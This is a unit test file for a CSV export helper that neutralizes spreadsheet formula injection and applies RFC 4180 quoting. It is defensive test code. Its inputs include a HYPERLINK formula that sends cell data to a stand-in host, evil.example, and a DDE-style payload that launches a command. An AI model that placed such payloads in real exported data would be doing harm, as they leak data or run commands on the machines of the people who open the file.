/**
 * The CSV cell rule (`api/csv-cell.ts`, OWASP CSV Injection): text that a spreadsheet would run as a
 * formula gets a leading `'` and every text cell is quoted; typed numbers stay numbers; `raw` keeps
 * values as they are with RFC 4180 quoting only.
 */
import { describe, expect, it } from 'vitest';
import { csvCell, csvField, startsLikeFormula } from '../../../api/csv-cell';

describe('startsLikeFormula', () => {
  it('knows the trigger characters, including the full-width forms', () => {
    for (const text of ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', '＝1', '＋1', '－1', '＠x']) {
      expect(startsLikeFormula(text), JSON.stringify(text)).toBe(true);
    }
    for (const text of ['', 'Ada', ' =1', '1-2', "'=1", 'a=b', '"=1"']) {
      expect(startsLikeFormula(text), JSON.stringify(text)).toBe(false);
    }
  });
});

describe('csvField (default: safe for spreadsheets)', () => {
  it('neutralizes a formula: a leading quote inside a quoted cell', () => {
    expect(csvField('=HYPERLINK("http://evil.example/?x="&A1,"Click")')).toBe(
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`,
    );
    expect(csvField('@SUM(1+1)*cmd|" /C calc"!A0')).toBe(`"'@SUM(1+1)*cmd|"" /C calc""!A0"`);
    expect(csvField('-2+3')).toBe(`"'-2+3"`);
    expect(csvField('+49 30 1234')).toBe(`"'+49 30 1234"`);
    expect(csvField('\t=1')).toBe(`"'\t=1"`);
  });

  it('quotes every other text cell, so a delimiter inside it never starts a new cell', () => {
    expect(csvField('Ada')).toBe('"Ada"');
    expect(csvField('a;=1+1')).toBe('"a;=1+1"');
    expect(csvField('Zoë "Zo"')).toBe('"Zoë ""Zo"""');
  });

  it('keeps typed numbers and booleans as they are, a negative number included', () => {
    expect(csvField(-12.5)).toBe('-12.5');
    expect(csvField(0)).toBe('0');
    expect(csvField(true)).toBe('true');
    expect(csvCell(-3)).toEqual({ text: '-3', quoted: false });
  });

  it('writes text that only looks like a negative number as text', () => {
    expect(csvField('-5')).toBe(`"'-5"`);
  });

  it('writes nothing for null, undefined and empty text', () => {
    expect([csvField(null), csvField(undefined), csvField('')]).toEqual(['', '', '']);
  });
});

describe('csvField (raw)', () => {
  it('keeps values exactly, quoting only where RFC 4180 requires', () => {
    expect(csvField('=1+1', { raw: true })).toBe('=1+1');
    expect(csvField('Ada', { raw: true })).toBe('Ada');
    expect(csvField('a,b', { raw: true })).toBe('"a,b"');
    expect(csvField('a;b', { raw: true, delimiter: ';' })).toBe('"a;b"');
    expect(csvField('line\r\nbreak', { raw: true })).toBe('"line\r\nbreak"');
    expect(csvField('say "hi"', { raw: true })).toBe('"say ""hi"""');
    expect(csvField(-7, { raw: true })).toBe('-7');
  });
});
